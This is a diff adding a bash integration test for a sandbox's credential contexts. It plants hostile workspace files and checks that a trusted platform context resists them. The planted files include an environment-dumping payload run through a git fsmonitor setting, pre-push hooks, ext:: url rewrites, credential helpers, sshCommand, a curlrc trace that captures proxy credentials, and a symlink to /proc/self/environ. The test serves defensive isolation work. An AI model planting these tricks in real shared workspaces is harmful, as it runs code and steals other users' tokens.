@@ -1,0 +1,240 @@
+#!/usr/bin/env bash
+# A hostile workspace against a platform's credential context (issue #31, docs/CONTEXTS.md
+# "Threat model"), with real git and curl in a Debian image the test builds
+# (debootstrap:bookworm+git,curl,ca-certificates; cached by the rootfs builder after the first build).
+# The user (the default context, uid 1000) plants configuration, code and files in the shared
+# workspace; a platform context (uid 2000, a token in its --env) then does its ordinary work.
+# Every check first shows the attack succeeding against a positive control: an untrusted
+# context with the old HOME (`--env HOME=/workspace`, what every context had before), then
+# failing against the trusted platform context (`--trusted`), whose ordinary work (git
+# status, commit, push of the user's commits to a remote on a --mount, curl to its allowed
+# host) still succeeds. Each check removes what it planted.
+#   ATTACK_CONTEXTS_BACKENDS="gvisor native" (default: both)
+set -u
+HERE=$(cd "$(dirname "$0")" && pwd)
+# shellcheck source=../integration/lib/common.sh
+. "$HERE/../integration/lib/common.sh"
+require_root
+require_cmds jq python3 curl ip git
+[ -x "$SANDSHIM_BIN" ] || skip_all "sandshim binary not built: $SANDSHIM_BIN"
+command -v debootstrap >/dev/null || skip_all "no debootstrap (the test image is debootstrap:bookworm+git,curl)"
+
+WORK=$(mktemp -d /tmp/sandshim-attack-ctx.XXXXXX)
+chmod 755 "$WORK"
+ROOT=$WORK/root
+NET=10.218.$(($$ % 250 + 1))
+HOSTIP=$NET.1 GOOD=$NET.10
+TH=sshim-actx-$$ VETH=sactx$$
+install_traps
+on_exit 'rm -rf "$WORK"'
+on_exit 'ip netns del "$TH" 2>/dev/null; ip link del "$VETH" 2>/dev/null'
+on_exit 'kill_procs_naming "$WORK"'
+on_exit 'for s in $(S session list --json 2>/dev/null | jq -r ".[].id"); do S session delete "$s" >/dev/null 2>&1; done'
+export SANDSHIM_CONFIG=$WORK/config.json
+echo "{\"audit_dir\": \"$WORK/audit\"}" >"$SANDSHIM_CONFIG"
+S() { "$SANDSHIM_BIN" --root "$ROOT" "$@"; }
+
+log "test image: debootstrap:bookworm+git,curl,ca-certificates (built once, then cached; first build 412 s at load 20 here)"
+t0=$(now_ms)
+IMAGE=$(S rootfs build "debootstrap:bookworm+git,curl,ca-certificates" 2>"$WORK/image.log") ||
+  skip_all "rootfs build failed: $(tail -2 "$WORK/image.log")"
+log "image ready in $(( ($(now_ms) - t0) / 1000 )) s: $IMAGE"
+
+# --- good.test: the platform's allowed host (plain HTTP in a namespace of its own) ---------
+ip netns add "$TH" || die "ip netns add"
+ip link add "$VETH" type veth peer name eth0 netns "$TH" || die "veth"
+ip addr add "$HOSTIP/24" dev "$VETH" && ip link set "$VETH" up && ip -n "$TH" addr add "$GOOD/24" dev eth0 &&
+  ip -n "$TH" link set eth0 up && ip -n "$TH" link set lo up || die "origin addresses"
+mkdir -p "$WORK/origin"
+(cd "$WORK/origin" && echo ok >up && exec ip netns exec "$TH" python3 -m http.server --bind "$GOOD" 8080 \
+  >"$WORK/origin.log" 2>&1) &
+wait_until 10 curl -sf --noproxy '*' "http://$GOOD:8080/up" -o /dev/null || die "good.test not up"
+
+# The platform's token: only in files and in environments, never on a command line.
+mkdir -p "$WORK/values" && chmod 700 "$WORK/values"
+printf 'canary-platform-%s\n' "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')" >"$WORK/values/token"
+leaked() { grep -qF -f "$WORK/values/token" <<<"$1"; } # TEXT: holds the platform's token
+
+# One session per backend: the user (default context), the trusted platform, and the
+# positive control "naive" (the same user and token, untrusted, HOME the workspace as before).
+session_for() { # BACKEND: sets SID, WS, REMOTE
+  SID=ac-$1-$$ WS=$WORK/ws-$1 REMOTE=$WORK/remote-$1
+  [ -e "$WS" ] && return 0
+  mkdir -p "$WS" "$REMOTE" && chmod 777 "$WS" "$REMOTE"
+  S --backend "$1" session create "$SID" --rootfs "$IMAGE" --workspace "$WS" --mount "$REMOTE:/remote" \
+    --network proxy --allow-private --allow-domain good.test --egress-resolve "good.test=$GOOD" >/dev/null ||
+    return $(fail "session create ($1)")
+  local c
+  for c in "platform --trusted" "naive --env HOME=/workspace"; do
+    # shellcheck disable=SC2086
+    PLATFORM_TOKEN=$(cat "$WORK/values/token") S session context create "$SID" $c --user 2000 --env PLATFORM_TOKEN \
+      --allow-domain good.test >/dev/null || return $(fail "context create $c ($1)")
+  done
+}
+ux() { S session exec "$SID" -- sh -c "$1"; }                        # the user (attacker)
+px() { S session exec --context platform "$SID" -- sh -c "$1"; }     # the trusted platform
+nx() { S session exec --context naive "$SID" -- sh -c "$1"; }        # the positive control
+# What the attacker can read afterwards: everything its payloads dropped.
+stolen() { ux 'cat /workspace/.p/stolen* /workspace/.p/trace* 2>/dev/null; true'; }
+# After each check (host side: files of three users): the workspace and the remote empty again.
+clean() { px 'rm -f "$HOME"/creds' 2>/dev/null
+  find "$WS" "$REMOTE" -mindepth 1 -delete 2>/dev/null
+  local left=$(find "$WS" "$REMOTE" -mindepth 1 | head -5)
+  [ -z "$left" ] || fail "left behind: $(echo $left)"; }
+# The payload any planted configuration runs: the runner's environment into the workspace.
+plant_payload() {
+  ux 'mkdir -p /workspace/.p && chmod 777 /workspace/.p && printf "%s\n" "#!/bin/sh" \
+    "env > /workspace/.p/stolen.\$(id -u).\$\$ 2>&1; chmod 644 /workspace/.p/stolen.* 2>/dev/null; exit 1" \
+    > /workspace/.p/payload.sh && chmod 755 /workspace/.p/payload.sh'
+}
+user_repo() { ux 'git init -q /workspace/repo && cd /workspace/repo && echo a > a && git add a &&
+  git -c user.name=user -c user.email=u@x commit -qm user-commit && chmod -R a+rwX /workspace/repo'; }
+with_backend() { # BACKEND CHECK
+  session_for "$1" || return
+  local rc=0
+  "$2" "$1" || rc=$?
+  clean || rc=1
+  return $rc
+}
+
+# 1. ~/.gitconfig planted in the workspace: core.fsmonitor + safe.directory=*, run by git status.
+chk_gitconfig() {
+  plant_payload && user_repo || return $(fail "plant")
+  ux 'printf "[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = /workspace/.p/payload.sh\n" > /workspace/.gitconfig'
+  nx 'cd /workspace/repo && git status >/dev/null 2>&1'
+  leaked "$(stolen)" || return $(fail "control: the planted fsmonitor did not run in the naive context")
+  ux 'rm -f /workspace/.p/stolen*'
+  local out
+  out=$(px 'cd /workspace/repo && git status --short; echo rc=$?' 2>&1)
+  assert_contains "$out" "rc=0" "the trusted platform's git status works on the user's repo" || return
+  ! leaked "$(stolen)" || fail "the planted fsmonitor ran as the trusted platform"
+}
+
+# 2. .git/hooks/pre-push in the user's repository, run by the platform's push.
+chk_hook() {
+  plant_payload && user_repo || return $(fail "plant")
+  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && cp /workspace/.p/payload.sh /workspace/repo/.git/hooks/pre-push'
+  px 'git init -q --bare /remote/r.git' || return $(fail "remote")
+  nx 'cd /workspace/repo && git push -q /remote/r.git HEAD:refs/heads/naive' >/dev/null 2>&1
+  leaked "$(stolen)" || return $(fail "control: the planted pre-push hook did not run in the naive context")
+  ux 'rm -f /workspace/.p/stolen*'
+  px 'cd /workspace/repo && git -c user.name=p -c user.email=p@x commit -q --allow-empty -m platform-commit &&
+      git push -q /remote/r.git HEAD:refs/heads/main' 2>&1 || return $(fail "the trusted platform's commit and push failed")
+  assert_contains "$(git -c safe.directory="*" --git-dir="$REMOTE/r.git" log --format=%s main 2>&1)" "user-commit" \
+    "the user's commit reached the remote" || return
+  ! leaked "$(stolen)" || fail "the planted pre-push hook ran as the trusted platform"
+}
+
+# 3. core.fsmonitor appended to a platform-owned --shared repository's .git/config (no HOME needed).
+chk_repo_config() {
+  plant_payload || return $(fail "plant")
+  nx 'git init -q --shared=0777 /workspace/prepo' && px 'git init -q --shared=0777 /workspace/prepo2' ||
+    return $(fail "platform repos")
+  ux 'for r in prepo prepo2; do printf "[core]\n\tfsmonitor = /workspace/.p/payload.sh\n" >> /workspace/$r/.git/config; done'
+  nx 'cd /workspace/prepo && HOME=/tmp git status >/dev/null 2>&1'
+  leaked "$(stolen)" || return $(fail "control: the appended fsmonitor did not run in the naive context")
+  ux 'rm -f /workspace/.p/stolen*'
+  local out
+  out=$(px 'cd /workspace/prepo2 && git status 2>&1; echo rc=$?')
+  assert_contains "$out" "refusing: the repository's config sets core.fsmonitor" "the wrapper refuses the repository" || return
+  # The wrapper bypassed (the real git, the context's environment): the command-line-scope
+  # setting still wins over the repository's.
+  px 'cd /workspace/prepo2 && /usr/bin/git status >/dev/null 2>&1'
+  ! leaked "$(stolen)" || return $(fail "the appended fsmonitor ran as the trusted platform")
+  px 'rm -rf /workspace/prepo2'
+}
+
+# 3b. Other spellings in the user's repository config: a url rewrite to ext:: (a command),
+# a credential helper, an ssh command. The wrapper refuses the repository; the real git
+# without the wrapper still runs none of them (protocol list, command-line-scope reset).
+chk_repo_spellings() {
+  plant_payload && user_repo || return $(fail "plant")
+  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && cd /workspace/repo &&
+      git config url."ext::sh -c /workspace/.p/payload.sh".insteadOf https://git.invalid/ &&
+      git config credential.helper "!/workspace/.p/payload.sh" && git config core.sshCommand /workspace/.p/payload.sh'
+  nx 'cd /workspace/repo && git push -q ssh://git.invalid/r HEAD:main' >/dev/null 2>&1
+  leaked "$(stolen)" || return $(fail "control: the repository's sshCommand did not run in the naive context")
+  ux 'rm -f /workspace/.p/stolen*'
+  assert_contains "$(px 'cd /workspace/repo && git push -q https://git.invalid/r HEAD:main 2>&1')" "refusing" \
+    "the wrapper refuses the repository" || return
+  px 'cd /workspace/repo && /usr/bin/git push -q https://git.invalid/r HEAD:main; /usr/bin/git push -q ssh://git.invalid/r HEAD:main' >/dev/null 2>&1
+  ! leaked "$(stolen)" || fail "a repository-supplied command ran as the trusted platform"
+}
+
+# 4. ~/.curlrc planted in the workspace with trace-ascii: the proxy credentials in a trace.
+chk_curlrc() {
+  ux 'mkdir -p /workspace/.p && chmod 777 /workspace/.p && printf "trace-ascii = \"/workspace/.p/trace\"\n" > /workspace/.curlrc'
+  nx 'umask 022; curl -s -o /dev/null http://good.test:8080/up'
+  assert_contains "$(stolen)" "Proxy-Authorization" "control: the naive context's curl wrote the planted trace" || return
+  ux 'rm -f /workspace/.p/trace*'
+  assert_eq ok "$(px 'umask 022; curl -s http://good.test:8080/up')" "the trusted platform's curl to its allowed host" || return
+  assert_not_contains "$(stolen)" "Proxy-Authorization" "no trace of the trusted platform's request"
+}
+
+# 5. A 0666 file pre-created where the platform writes its credentials (umask 077).
+chk_precreated() {
+  ux 'mkdir -p /workspace/.platform && chmod 777 /workspace/.platform && : > /workspace/.platform/creds && chmod 666 /workspace/.platform/creds'
+  nx 'umask 077; printf "%s\n" "$PLATFORM_TOKEN" > /workspace/.platform/creds'
+  leaked "$(ux 'cat /workspace/.platform/creds')" || return $(fail "control: the pre-created file did not leak")
+  # The platform's credentials go to its own home: 0700, its user's, nowhere another context reaches.
+  px 'umask 077; printf "%s\n" "$PLATFORM_TOKEN" > "$HOME/creds"' || return $(fail "platform write")
+  assert_eq "700 2000 $HOME_DIR" "$(px 'find "$HOME" -maxdepth 0 -printf "%m %U %p"')" \
+    "the platform's home" || return
+  ! leaked "$(ux "cat $HOME_DIR/creds; ls -la $HOME_DIR; : > $HOME_DIR/creds" 2>&1)" ||
+    return $(fail "the user read the platform's credentials")
+  leaked "$(px 'cat "$HOME/creds"')" || fail "the platform's file was replaced"
+}
+HOME_DIR=/home/context
+
+# 6. A symlink to /proc/self/environ that the platform copies out of the workspace.
+chk_symlink() {
+  ux 'mkdir -p /workspace/results /workspace/artifacts && chmod 777 /workspace/artifacts && ln -s /proc/self/environ /workspace/results/summary.txt &&
+      : > /workspace/artifacts/summary.txt && chmod 666 /workspace/artifacts/summary.txt'
+  nx 'cp /workspace/results/summary.txt /workspace/artifacts/' 2>/dev/null
+  leaked "$(ux 'tr "\0" "\n" < /workspace/artifacts/summary.txt')" || return $(fail "control: the copy did not leak")
+  ux ': > /workspace/artifacts/summary.txt'
+  # The documented copy: no link followed, no blocking open, a new file renamed into place.
+  px 'umask 077; t=$(mktemp /workspace/artifacts/.in.XXXXXX) &&
+      { dd if=/workspace/results/summary.txt iflag=nofollow,nonblock status=none > "$t" || rm -f "$t"; } && [ -e "$t" ] &&
+      mv -f "$t" /workspace/artifacts/summary.txt' 2>/dev/null
+  ! leaked "$(ux 'tr "\0" "\n" < /workspace/artifacts/summary.txt 2>&1; cat /workspace/artifacts/.in.* 2>&1')" ||
+    fail "the platform's environ reached the user"
+}
+
+# 7. A FIFO where the platform reads: a blocking read hangs it.
+chk_fifo() {
+  ux 'mkfifo -m 666 /workspace/notes.md'
+  if ! px 'test -p /workspace/notes.md'; then
+    log "$1: the platform's container does not see another container's FIFO (gVisor): does not apply"
+    return 0
+  fi
+  nx 'timeout 5 cat /workspace/notes.md >/dev/null'
+  assert_eq 124 "$?" "control: the naive read hangs" || return
+  local t=$(now_ms)
+  px 'dd if=/workspace/notes.md iflag=nofollow,nonblock status=none >/dev/null 2>&1; test -p /workspace/notes.md'
+  [ $(( $(now_ms) - t )) -lt 4000 ] || fail "the documented read hung"
+}
+
+# What every context's identity is: its own HOME, nowhere in the workspace.
+chk_home() {
+  assert_eq "$HOME_DIR" "$(px 'echo $HOME')" "the platform's HOME" || return
+  px 'echo mine > "$HOME/.netrc"' || return $(fail "platform writes its home")
+  assert_eq mine "$(px 'cat "$HOME/.netrc"')" "control: the platform reads its own home" || return
+  assert_not_contains "$(ux "cat $HOME_DIR/.netrc 2>&1; echo > $HOME_DIR/.netrc 2>&1")" mine "the user reads the platform's home" || return
+  assert_eq mine "$(px 'cat "$HOME/.netrc"; rm -f "$HOME/.netrc"')" "the platform's file unchanged"
+}
+
+backends=${ATTACK_CONTEXTS_BACKENDS:-gvisor native}
+for be in $backends; do
+  run_check "contexts on $be: a context's HOME is its own" with_backend "$be" chk_home
+  run_check "contexts on $be: planted ~/.gitconfig (fsmonitor, safe.directory=*) vs git status" with_backend "$be" chk_gitconfig
+  run_check "contexts on $be: planted pre-push hook vs git commit + push" with_backend "$be" chk_hook
+  run_check "contexts on $be: fsmonitor appended to a --shared repo's .git/config" with_backend "$be" chk_repo_config
+  run_check "contexts on $be: ext:: rewrite, credential helper, sshCommand in the repo's config" with_backend "$be" chk_repo_spellings
+  run_check "contexts on $be: planted ~/.curlrc trace-ascii vs curl" with_backend "$be" chk_curlrc
+  run_check "contexts on $be: pre-created 0666 credentials file" with_backend "$be" chk_precreated
+  run_check "contexts on $be: symlink to /proc/self/environ copied out" with_backend "$be" chk_symlink
+  run_check "contexts on $be: FIFO where the platform reads" with_backend "$be" chk_fifo
+done
+for be in $backends; do S session delete "ac-$be-$$" >/dev/null 2>&1; done
+finish_checks
